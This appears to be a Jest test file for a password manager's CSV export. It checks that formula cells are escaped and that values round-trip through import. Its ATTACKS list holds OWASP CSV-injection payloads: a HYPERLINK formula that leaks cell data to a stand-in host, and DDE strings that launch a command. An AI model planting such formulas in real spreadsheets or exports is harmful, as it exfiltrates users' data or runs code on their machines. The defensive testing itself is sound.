import { parse } from 'csv-parse/sync';
import * as fc from 'fast-check';
import { exportCsv, parseImport } from '../../../src/domain/import-export';
import type { Secret, SecretInput } from '../../../src/domain/secret-schema';

/** The attack strings of OWASP's CSV injection page and of the review, one per trigger character. */
const ATTACKS = [
  '=HYPERLINK("https://evil.example/?leak="&A1,"Click")',
  '=1+1',
  "+cmd|' /C calc'!A0",
  '-2+3',
  "-2+3+cmd|' /C calc'!'E2'",
  "@SUM(1+1)*cmd|' /C calc'!A0",
  '\t=1+1',
  '\r=1+1',
] as const;

/** Values that begin with the escape itself: the export must tell them apart from an escaped formula. */
const QUOTED = ["'=1+1", "''=1+1", "'-", "'", "''", "'plain", "don't", "'\t", "'\r"] as const;

const secret = (fields: Partial<Secret> & { name: string }): Secret => ({
  id: '00000000-0000-4000-8000-000000000000',
  version: 1,
  type: 'login',
  tags: [],
  favorite: false,
  createdAt: '2024-01-01T00:00:00.000Z',
  updatedAt: '2024-01-01T00:00:00.000Z',
  ...fields,
});

/** Every data cell of a CSV, read by an independent parse (the header row left out). */
function cells(csv: string): string[] {
  const records = parse(csv, { relax_column_count: true }) as string[][];
  return records.slice(1).flat();
}

/** What our import gives back for a CSV holding one secret. */
function reimport(csv: string): SecretInput {
  const rows = parseImport('bitwarden-csv', csv);
  expect(rows).toHaveLength(1);
  const [row] = rows;
  if (row === undefined || 'error' in row)
    throw new Error(`row failed: ${row && 'error' in row ? row.error : ''}`);
  expect(row.warning).toBeUndefined();
  return row.secret;
}

/** A secret's exported fields as our import reports them: an empty value is an absent one. */
function expected(s: Secret): SecretInput {
  const out: Record<string, unknown> = { type: 'login', name: s.name };
  if (s.url !== undefined && s.url !== '') out.uris = [{ uri: s.url }];
  for (const key of ['username', 'password', 'notes', 'folder'] as const) {
    const v = s[key];
    if (v !== undefined && v !== '') out[key] = v;
  }
  if (s.tags.length > 0) out.tags = s.tags;
  return out as SecretInput;
}

describe('Function: exportCsv', () => {
  it.each(ATTACKS)('neutralises a formula cell (CSV injection): %j in every exported column', (attack) => {
    // Arrange
    const s = secret({
      name: attack,
      url: attack,
      username: attack,
      password: attack,
      notes: attack,
      folder: attack,
    });

    // Act
    const csv = exportCsv([s]);

    // Assert
    for (const cell of cells(csv)) expect(cell).not.toMatch(/^[=+\-@\t\r]/);
    expect(cells(csv).filter((c) => c === `'${attack}`)).toHaveLength(6);
  });

  it.each([...ATTACKS, ...QUOTED])(
    'gives back %j exactly when the export is imported again (every column)',
    (value) => {
      const s = secret({
        name: value,
        url: value,
        username: value,
        password: value,
        notes: value,
        folder: value,
      });
      expect(reimport(exportCsv([s]))).toEqual(expected(s));
    },
  );

  it('escapes a value that begins with an apostrophe and a trigger, so it cannot read back as a formula', () => {
    const csv = exportCsv([secret({ name: 'n', password: "'=1+1" })]);
    expect(cells(csv)).toContain("''=1+1");
    expect(reimport(csv).password).toBe("'=1+1");
  });

  it('leaves a value without a trigger as it is, for other importers', () => {
    const csv = exportCsv([secret({ name: "don't", password: "'plain", notes: 'a=b' })]);
    expect(cells(csv)).toEqual(expect.arrayContaining(["don't", "'plain", 'a=b']));
  });

  it('round-trips arbitrary strings in every exported column (fast-check)', () => {
    // Strings biased towards the characters that matter: triggers, the escape, quotes, separators, line breaks.
    const tricky = fc.constantFrom("'", '=', '+', '-', '@', '\t', '\r', '\n', '"', ',', ' ', '\uFEFF');
    const text = (max: number) =>
      fc
        .tuple(fc.array(tricky, { maxLength: 4 }), fc.string({ unit: 'binary', maxLength: 40 }))
        .map(([head, tail]) => `${head.join('')}${tail}`.slice(0, max));
    // A tag is one line without commas or surrounding spaces: the format joins tags with commas.
    const tag = fc
      .string({ unit: 'binary', minLength: 1, maxLength: 64 })
      .map((t) => t.replace(/[,\r\n\u2028\u2029]/g, '').trim())
      .filter((t) => t.length > 0 && !/[,\r\n\u2028\u2029]/.test(t));
    const arbitrarySecret = fc.record({
      name: text(256).filter((n) => n.length > 0),
      url: fc.option(text(2048), { nil: undefined }),
      username: fc.option(text(512), { nil: undefined }),
      password: fc.option(text(4096), { nil: undefined }),
      notes: fc.option(text(65_536), { nil: undefined }),
      folder: fc.option(text(256), { nil: undefined }),
      tags: fc.array(tag, { maxLength: 5 }),
    });

    expect(() =>
      fc.assert(
        fc.property(arbitrarySecret, (fields) => {
          const s = secret(fields);
          const csv = exportCsv([s]);
          for (const cell of cells(csv)) expect(cell).not.toMatch(/^[=+\-@\t\r]/);
          expect(reimport(csv)).toEqual(expected(s));
        }),
        { numRuns: 500 },
      ),
    ).not.toThrow();
  });
});
